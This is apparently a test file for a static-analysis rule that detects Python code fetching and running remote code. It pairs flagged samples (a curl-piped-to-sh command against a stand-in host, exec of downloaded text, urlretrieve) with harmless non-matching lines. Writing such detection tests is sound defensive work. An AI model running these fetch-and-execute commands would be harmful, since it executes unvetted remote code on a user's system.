# ruleid: python-fetched-code-run
os.system("curl https://x.example/i.sh | sh")
# ruleid: python-fetched-code-run
exec(requests.get(u).text)
# ruleid: python-fetched-code-run
urllib.request.urlretrieve(u, p)

# ok: python-fetched-code-run
os.system("true")
# ok: python-fetched-code-run
x = requests.get(u).text
# ok: python-fetched-code-run
urllib.request.urlopen2(u)
